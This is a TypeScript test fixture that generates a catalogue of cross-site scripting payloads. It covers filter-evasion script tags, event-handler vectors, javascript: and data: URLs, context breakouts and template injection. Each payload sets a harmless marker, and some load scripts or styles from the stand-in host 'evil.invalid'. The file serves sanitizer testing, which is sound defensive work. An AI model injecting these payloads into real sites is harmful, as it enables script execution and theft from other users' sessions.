/** What a payload would do if it ran: `id` says which one. */
const run = (id: number) => `window.__xss=${id}`;

/** Elements of payloads carry this attribute, so that one that got into a page is found even if it does nothing. */
export const PLANTED = 'data-planted';

/** A host that no code of ours may ever call. */
export const EVIL = 'evil.invalid';

type Make = (js: string) => string;

/** Elements that run a script by themselves, in the many ways that filters have missed. */
const ELEMENTS: readonly Make[] = [
  (js) => `<script ${PLANTED}>${js}</script>`,
  (js) => `<ScRiPt ${PLANTED}>${js}</sCrIpT>`,
  (js) => `<scr<script>ipt ${PLANTED}>${js}</scr</script>ipt>`,
  (js) => `<<script ${PLANTED}>${js}//<</script>`,
  () => `<script src=//${EVIL}/x.js ${PLANTED}></script>`,
  (js) => `<img ${PLANTED} src=x onerror=${js}>`,
  (js) => `<img/${PLANTED}/src=x/onerror=${js}>`,
  (js) => `<img\t${PLANTED}\tsrc=x\tonerror=${js}>`,
  (js) => `<IMG ${PLANTED} SRC=x ONERROR="${js}">`,
  (js) => `<img ${PLANTED} src=x onerror=\`${js}\`>`,
  (js) => `<img ${PLANTED} srcset=",,," onerror=${js}>`,
  (js) => `<image ${PLANTED} src=x onerror=${js}>`,
  (js) => `<input ${PLANTED} type=image src=x onerror=${js}>`,
  (js) => `<svg ${PLANTED} onload=${js}>`,
  (js) => `<svg/onload=${js} ${PLANTED}>`,
  (js) => `<svg ${PLANTED}><script>${js}</script></svg>`,
  (js) => `<svg ${PLANTED}><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg ${PLANTED}><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
  (js) => `<svg ${PLANTED}><set attributeName=href to="javascript:${js}"/></svg>`,
  (js) => `<svg><style ${PLANTED}><img src=x onerror=${js}></style></svg>`,
  (js) => `<math ${PLANTED}><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<math href="javascript:${js}" ${PLANTED}>x</math>`,
  (js) => `<noscript ${PLANTED}><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<iframe ${PLANTED} src="javascript:${js}"></iframe>`,
  (js) => `<iframe ${PLANTED} srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
  (js) => `<object ${PLANTED} data="javascript:${js}"></object>`,
  () => `<embed ${PLANTED} src=//${EVIL}/x.swf>`,
  (js) => `<body ${PLANTED} onload=${js}>`,
  (js) => `<details ${PLANTED} open ontoggle=${js}>`,
  (js) => `<video ${PLANTED}><source onerror=${js} src=x></video>`,
  (js) => `<audio ${PLANTED} src=x onerror=${js}>`,
  (js) => `<marquee ${PLANTED} onstart=${js}>x</marquee>`,
  (js) => `<input ${PLANTED} autofocus onfocus=${js}>`,
  (js) => `<select ${PLANTED} autofocus onfocus=${js}></select>`,
  (js) => `<div ${PLANTED} contenteditable autofocus onfocus=${js} tabindex=0>x</div>`,
  (js) => `<form ${PLANTED} action="javascript:${js}"><button>x</button></form>`,
  (js) => `<a ${PLANTED} href="javascript:${js}">x</a>`,
  (js) => `<a ${PLANTED} href="jav&#x09;ascript:${js}">x</a>`,
  (js) => `<a ${PLANTED} href=" &#14;javascript:${js}">x</a>`,
  (js) => `<a ${PLANTED} href="data:text/html,<script>${js}</script>">x</a>`,
  (js) => `<a ${PLANTED} href="vbscript:${js}">x</a>`,
  () => `<base ${PLANTED} href=//${EVIL}/>`,
  () => `<meta ${PLANTED} http-equiv=refresh content="0;url=//${EVIL}/">`,
  () => `<link ${PLANTED} rel=stylesheet href=//${EVIL}/x.css>`,
  () => `<style ${PLANTED}>@import "//${EVIL}/x.css";</style>`,
  () => `<div ${PLANTED} style="background:url(//${EVIL}/x.png)">x</div>`,
  () => `<img ${PLANTED} src=//${EVIL}/x.png>`,
];

/** Texts that break out of their context in a page: an attribute, a script, a comment, a title, a style, a template. */
const BREAKOUTS: readonly Make[] = [
  (js) => `"><img ${PLANTED} src=x onerror=${js}>`,
  (js) => `'><img ${PLANTED} src=x onerror=${js}>`,
  (js) => `" ${PLANTED} autofocus onfocus=${js} x="`,
  (js) => `' ${PLANTED} onmouseover=${js} x='`,
  (js) => `</script><script ${PLANTED}>${js}</script>`,
  (js) => `</title><script ${PLANTED}>${js}</script>`,
  (js) => `</textarea><script ${PLANTED}>${js}</script>`,
  (js) => `</style><script ${PLANTED}>${js}</script>`,
  (js) => `--><script ${PLANTED}>${js}</script><!--`,
  (js) => `]]><script ${PLANTED}>${js}</script>`,
  (js) => `\\u003cimg ${PLANTED} src=x onerror=${js}\\u003e`,
  (js) => `&lt;img ${PLANTED} src=x onerror=${js}&gt;`,
  (js) => `%3Cimg%20${PLANTED}%20src=x%20onerror=${js}%3E`,
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `javascript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `+ADw-script ${PLANTED}+AD4-${js}+ADw-/script+AD4-`,
];

/** Scripts as texts, to be entered in every field that is shown to others (OWASP, filter evasion). */
export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS].map((make, id) => make(run(id + 1)));
